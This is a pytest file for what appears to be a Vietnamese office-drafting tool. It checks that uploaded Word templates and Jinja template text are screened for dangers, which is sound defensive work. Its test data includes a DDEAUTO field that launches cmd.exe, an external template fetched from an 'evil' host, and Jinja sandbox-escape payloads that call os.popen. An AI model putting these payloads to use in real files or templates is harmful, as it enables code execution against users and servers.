"""Hostile and tame templates, as tables. No file of an office is kept: they are built here."""

import io
import zipfile

import pytest

from chibo.work.drafting.rules.packages import MOST_XML, dangers_in
from chibo.work.drafting.rules.template_language import names_in_template, refused_in_template

LISTS = frozenset({"doan", "noi_nhan"})
BODY = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>{{ trich_yeu }}</w:t></w:r></w:p></w:body></w:document>'
EXTERNAL = '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
CLICKED = '<Relationship Id="r1" Type="http://x/hyperlink" Target="http://phutho.gov.vn" TargetMode="External"/>'


def package(**parts):
    kept = {"word/document.xml": BODY, "[Content_Types].xml": "<Types/>", **parts}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in kept.items():
            made.writestr(name, text)
    return out.getvalue()


def body(text):
    return {"word/document.xml": BODY.replace("{{ trich_yeu }}", text)}


def field(instruction):
    return {"word/document.xml": f'<w:p><w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r></w:p>'}


@pytest.mark.parametrize(
    "parts, dangers",
    [
        ({}, ()),
        ({"word/_rels/document.xml.rels": CLICKED}, ()),
        (field(" PAGE "), ()),
        (field(' HYPERLINK "http://phutho.gov.vn" '), ()),
        ({"word/vbaProject.bin": "x"}, ("programs",)),
        ({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}, ("programs",)),
        ({"word/activeX/activeX1.xml": "x"}, ("programs",)),
        ({"word/embeddings/oleObject1.xlsx": "x"}, ("foreign",)),
        (body('<w:altChunk r:id="rId1"/>'), ("foreign",)),
        ({"word/_rels/settings.xml.rels": EXTERNAL}, ("links",)),
        (field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), ("running",)),
        (field(" INCLUDEPICTURE http://evil/x.png "), ("running",)),
        (field("DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd"), ("running",)),
        ({"word/document.xml": "x" * (MOST_XML + 1)}, ("size",)),
        (body("{{ a }}" * 2_001), ("tags",)),
    ],
)
def test_what_a_template_must_not_hold(parts, dangers):
    assert dangers_in(package(**parts)) == dangers


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 torn", b"%PDF-1.7", package()[:200]])
def test_what_is_no_document_is_broken(content):
    assert dangers_in(content) == ("broken",)


@pytest.mark.parametrize(
    "source",
    [
        "plain words", "{{ don_vi }}", "{{ don_vi | upper }}", "{% if can_cu %}x{% endif %}",
        "{% for d in doan %}{{ loop.index }}. {{ d }}{% endfor %}", "{% if so is defined %}{{ so }}{% else %}…{% endif %}",
        "{% for a in doan %}{% for b in noi_nhan %}{{ b }}{% endfor %}{% endfor %}", "{{ 'Kính gửi' }}",
    ],
)  # fmt: skip
def test_what_a_template_may_say(source):
    assert refused_in_template(source, lists=LISTS) == ""


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__ }}", "{{ don_vi.__class__.__mro__[1].__subclasses__() }}", "{{ don_vi['__class__'] }}",
        "{{ don_vi | attr('__class__') }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self }}", "{{ self._TemplateReference__context }}", "{{ lipsum() }}", "{{ _x }}", "{{ loop.__class__ }}",
        "{% for i in range(10**9) %}x{% endfor %}", "{% for x in don_vi %}x{% endfor %}", "{{ 'a' * 10**9 }}",
        "{% for a in doan recursive %}{{ loop(doan) }}{% endfor %}", "{{ 2 ** 99999 }}", "{{ 'a' ~ 'b' }}",
        "{% for a in doan %}{% for b in doan %}{% for c in doan %}x{% endfor %}{% endfor %}{% endfor %}",
        "{% macro a() %}{{ a() }}{% endmacro %}", "{% include 'x' %}", "{% import 'os' as os %}", "{% extends 'x' %}",
        "{% set x = 1 %}", "{% call x() %}{% endcall %}", "{% filter upper %}x{% endfilter %}", "{{ doan | join('x') }}",
        "{{ don_vi | format(1) }}", "{{ don_vi is sameas none }}", "{% raw %}x", "{{ x", "{{ [1, 2] }}", "{{ {'a': 1} }}",
        "{% for a, b in doan %}x{% endfor %}", "{% if " + "(" * 500 + "a" + ")" * 500 + " %}x{% endif %}",
    ],
)  # fmt: skip
def test_what_a_template_must_not_say(source):
    assert refused_in_template(source, lists=LISTS) != ""


def test_the_names_a_template_asks_for():
    source = "{{ don_vi }} {% for d in doan %}{{ d }} {{ loop.index }}{% endfor %} {% if so %}{{ so | upper }}{% endif %}"

    assert names_in_template(source) == ["don_vi", "doan", "so"]
